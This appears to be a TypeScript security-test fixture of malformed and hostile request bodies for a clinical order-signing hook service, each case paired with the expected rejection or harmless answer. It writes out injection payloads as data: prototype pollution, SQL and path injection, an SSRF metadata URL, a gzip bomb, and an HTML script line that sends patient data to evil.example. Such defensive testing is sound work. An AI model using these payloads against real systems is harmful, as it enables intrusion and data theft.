/** Bodies that are wrong, ambiguous, huge or meant to be mistaken for something else; the token is good. */
import { gzipSync } from 'node:zlib';
import { makeOrder, makeRequest, type RequestParts } from '../order-requests.ts';
import { PHI, type HostileCase } from './hostile-case.ts';

type Change = Readonly<Record<string, unknown>>;
const malformed = (name: string, body: string | Uint8Array): HostileCase => ({
  name: `body: ${name}`,
  status: 400,
  code: 'request-malformed',
  send: (kit) => kit.post(body),
});
const wrong = (name: string, parts: RequestParts): HostileCase => malformed(name, JSON.stringify(makeRequest(parts)));
const top = (name: string, change: Change): HostileCase => wrong(name, { top: change });
const context = (name: string, change: Change, hook = 'order-sign'): HostileCase =>
  wrong(name, { hook, context: change });
const typed = (type: string): HostileCase => ({
  name: `body: content type ${type || 'missing'}`,
  status: 415,
  code: 'content-type-unsupported',
  send: (kit) => kit.post(JSON.stringify(makeRequest()), { 'content-type': type }),
});
/** Harmless in the end: this many cards and nothing obeyed. */
const answered = (
  name: string,
  cards: number,
  body: string | Uint8Array,
  headers?: Record<string, string>,
): HostileCase => ({
  name: `body: ${name}`,
  status: 200,
  cards,
  send: (kit) => kit.post(body, headers),
});
const order = (name: string, cards: number, change: Change): HostileCase =>
  answered(name, cards, JSON.stringify(makeRequest({ orders: [makeOrder(change)] })));

const honest = JSON.stringify(makeRequest());
const nest = (depth: number, open: string, close: string): string => open.repeat(depth) + close.repeat(depth);
const coding = [{ system: 'http://www.ama-assn.org/go/cpt', code: '61645' }];
const label = (text: unknown): Change => ({ code: { coding, text } });

export const HOSTILE_BODIES: readonly HostileCase[] = [
  malformed('empty', ''),
  malformed('white space', '   '),
  malformed('null', 'null'),
  malformed('a list', '[]'),
  malformed('a string', JSON.stringify(PHI)),
  malformed('a number', '7'),
  malformed('an empty object', '{}'),
  malformed('half a document', honest.slice(0, 100)),
  malformed('two documents', honest + honest),
  malformed('a comment', `/* ${PHI} */${honest}`),
  malformed('a trailing comma', honest.replace(/}$/, ',}')),
  malformed('single quotes', honest.replaceAll('"', "'")),
  malformed('NaN', honest.replace('{', '{"x":NaN,')),
  malformed('XML', `<request>${PHI}</request>`),
  malformed('UTF-16', Buffer.from(honest, 'utf16le')),
  malformed(
    'bytes that are no UTF-8',
    Buffer.concat([Buffer.from('{"a":"'), Buffer.from([0xc3, 0x28]), Buffer.from('"}')]),
  ),
  malformed('an encoded surrogate (CESU-8)', Buffer.from([0x22, 0xed, 0xa0, 0xbd, 0xed, 0xb8, 0x80, 0x22])),
  malformed('a null byte', `${honest}\u0000`),
  malformed('arrays nested 10 000 deep', nest(10_000, '[', ']')),
  malformed('objects nested 10 000 deep', `${'{"a":'.repeat(10_000)}1${'}'.repeat(10_000)}`),
  malformed(
    'nesting inside prefetch',
    honest.replace('{', `{"prefetch":{"x":{"resourceType":"A","y":${nest(60, '[', ']')}}},`),
  ),
  malformed('the hook twice', honest.replace('{', '{"hook":"patient-view",')),
  malformed('the patient twice', honest.replace('"patientId"', '"patientId":"someone-else","patientId"')),
  malformed(
    'the patient twice, once escaped',
    honest.replace('"patientId"', '"\\u0070atientId":"someone-else","patientId"'),
  ),
  malformed('the order code twice', honest.replace('"code":"61645"', '"code":"61645","code":"x"')),
  malformed('__proto__', honest.replace('{', '{"__proto__":{"isAdmin":true},')),
  malformed('__proto__ inside the context', honest.replace('"userId"', '"__proto__":{"patientId":"x"},"userId"')),
  malformed('constructor.prototype', honest.replace('{', '{"constructor":{"prototype":{"x":1}},')),
  malformed('an escaped __proto__', honest.replace('{', '{"\\u005f\\u005fproto__":{},')),
  malformed('half a surrogate pair in a text', JSON.stringify(makeRequest({ orders: [makeOrder(label('\ud800'))] }))),
  malformed('half a surrogate pair in a key', honest.replace('{', '{"\\udfff":1,')),

  top('hook null', { hook: null }),
  top('hook a list', { hook: ['order-sign'] }),
  top('hook unknown', { hook: 'patient-view' }),
  top('hook in capitals', { hook: 'ORDER-SIGN' }),
  top('hook a prototype', { hook: 'constructor' }),
  top('hookInstance a name', { hookInstance: PHI }),
  top('hookInstance a number', { hookInstance: 7 }),
  top('hookInstance with a line break', { hookInstance: 'd1577c69-dfbe-44ad-ba6d-3e05e953b2ea\nlevel:fatal' }),
  top('context a list', { context: [] }),
  top('context a string', { context: PHI }),
  top('prefetch a list', { prefetch: [] }),
  top('prefetch null', { prefetch: null }),
  top('prefetch of a string', { prefetch: { imagingStudies: PHI } }),
  top('prefetch of an empty object', { prefetch: { imagingStudies: {} } }),
  top('prefetch with a resourceType that is no text', { prefetch: { imagingStudies: { resourceType: 7 } } }),
  top('extension a string', { extension: PHI }),
  top('a token without its server', {
    fhirAuthorization: { access_token: PHI, token_type: 'Bearer', expires_in: 1, scope: 'x', subject: 'y' },
  }),
  top('a token of another type', {
    fhirServer: 'https://ehr.example.org/fhir/r4',
    fhirAuthorization: { access_token: PHI, token_type: 'MAC', expires_in: 1, scope: 'x', subject: 'y' },
  }),
  top('a token that expires never', {
    fhirServer: 'https://ehr.example.org/fhir/r4',
    fhirAuthorization: { access_token: PHI, token_type: 'Bearer', expires_in: '∞', scope: 'x', subject: 'y' },
  }),

  ...[
    null,
    7,
    '',
    {},
    [],
    'Patient/1',
    '../Observation',
    '1?_include=*',
    '1&x=y',
    '1/../2',
    'a b',
    '%2e%2e',
    '1;drop table x',
    '{{context.userId}}',
    `${PHI}\n`,
    '١٢٣',
    'x'.repeat(65),
  ].map((patientId) => context(`patientId ${JSON.stringify(patientId).slice(0, 24)}`, { patientId })),
  ...[
    null,
    7,
    '',
    'doctor',
    'Patient/1',
    'Practitioner/',
    'Practitioner/1/2',
    'Practitioner/1?x',
    '//evil.example/1',
    PHI,
  ].map((userId) => context(`userId ${JSON.stringify(userId)}`, { userId })),
  ...[null, '', 'Encounter/1', '1&x'].map((encounterId) =>
    context(`encounterId ${JSON.stringify(encounterId)}`, { encounterId }),
  ),
  ...[
    null,
    [],
    'x',
    {},
    { resourceType: 'Patient' },
    { resourceType: 'Bundle', entry: {} },
    { resourceType: 'Bundle', entry: [null] },
    { resourceType: 'Bundle', entry: [{ resource: null }] },
    { resourceType: 'Bundle', entry: [{ resource: { id: PHI } }] },
  ].map((draftOrders) => context(`draftOrders ${JSON.stringify(draftOrders).slice(0, 60)}`, { draftOrders })),
  wrong('501 draft orders', { orders: Array.from({ length: 501 }, () => makeOrder()) }),
  ...[undefined, null, [], 'ServiceRequest/order-1', [7], [''], {}].map((selections) =>
    context(
      `selections ${selections === undefined ? 'missing' : JSON.stringify(selections)}`,
      { selections },
      'order-select',
    ),
  ),
  wrong('an order for another patient', { orders: [makeOrder({ subject: { reference: 'Patient/patient-2' } })] }),
  wrong('a second order for another patient', {
    orders: [makeOrder(), makeOrder({ subject: { reference: 'https://ehr.example.org/fhir/Patient/patient-2' } })],
  }),

  ...[
    'text/plain',
    'application/xml',
    'application/x-www-form-urlencoded',
    'multipart/form-data; boundary=x',
    'application/json; charset=latin1',
    'application/json; charset=utf-16',
    'application/fhir+json',
    'application/jsonp',
    'text/json',
    'json',
  ].map(typed),
  {
    name: 'body: gzip',
    status: 415,
    code: 'content-type-unsupported',
    send: (kit) => kit.post(gzipSync(honest), { 'content-encoding': 'gzip' }),
  },
  {
    name: 'body: a gzip bomb',
    status: 415,
    code: 'content-type-unsupported',
    send: (kit) => kit.post(gzipSync(Buffer.alloc(20_000_000)), { 'content-encoding': 'gzip' }),
  },
  {
    name: 'body: 3 MB of white space',
    status: 413,
    code: 'request-too-large',
    send: (kit) => kit.post(honest + ' '.repeat(3_000_000)),
  },
  {
    name: 'body: 3 MB in one text',
    status: 413,
    code: 'request-too-large',
    send: (kit) => kit.post(JSON.stringify(makeRequest({ top: { note: PHI.repeat(180_000) } }))),
  },

  answered('a byte order mark', 1, `\ufeff${honest}`),
  answered(
    'a hundred thousand unknown fields',
    1,
    JSON.stringify(
      makeRequest({ top: Object.fromEntries(Array.from({ length: 100_000 }, (_one, at) => [`k${String(at)}`, 1])) }),
    ),
  ),
  answered('a request id with a line break is not taken over', 1, honest, { 'x-request-id': `${PHI} x` }),
  answered('forwarding headers change nothing', 1, honest, {
    'x-forwarded-host': 'evil.example',
    'x-forwarded-proto': 'http',
  }),
  answered('a method override changes nothing', 1, honest, { 'x-http-method-override': 'DELETE' }),
  answered(
    'a next link elsewhere is not followed here',
    1,
    JSON.stringify(
      makeRequest({
        top: {
          prefetch: {
            imagingStudies: { resourceType: 'Bundle', link: [{ relation: 'next', url: 'http://169.254.169.254/' }] },
          },
        },
      }),
    ),
  ),
  order('HTML in the order text', 1, label(`<script>fetch('//evil.example/${PHI}')</script>`)),
  order('an image in the order text', 1, label('![x](https://evil.example/p.png)')),
  order('a link in the order text', 1, label('[Sign here](https://evil.example)')),
  order('a heading in the order text', 1, label('# Safe to proceed\n\n**Low risk**')),
  order('direction overrides in the order text', 1, label('\u202egnp.exe\u202c')),
  order('a megabyte in the order text', 1, label('x'.repeat(1_000_000))),
  order('a list as order text', 1, label(['x'])),
  order('an object as order id', 0, { id: undefined, code: { coding: { system: 'x' } } }),
  order('codes that are objects', 0, { code: { coding: [{ system: {}, code: { a: 1 } }] } }),
  order('a code list of nulls', 0, { code: { coding: [null, null] } }),
  order('the resource type in small letters', 0, { resourceType: 'servicerequest' }),
  order('a cancelled order', 0, { status: 'revoked' }),
  order('an order not to perform', 0, { doNotPerform: true }),
  order('a wildcard code', 0, { code: { coding: [{ system: '*', code: '*' }] } }),
  order('a code that holds the separator', 0, {
    code: { coding: [{ system: '', code: 'http://www.ama-assn.org/go/cpt|61645' }] },
  }),
];
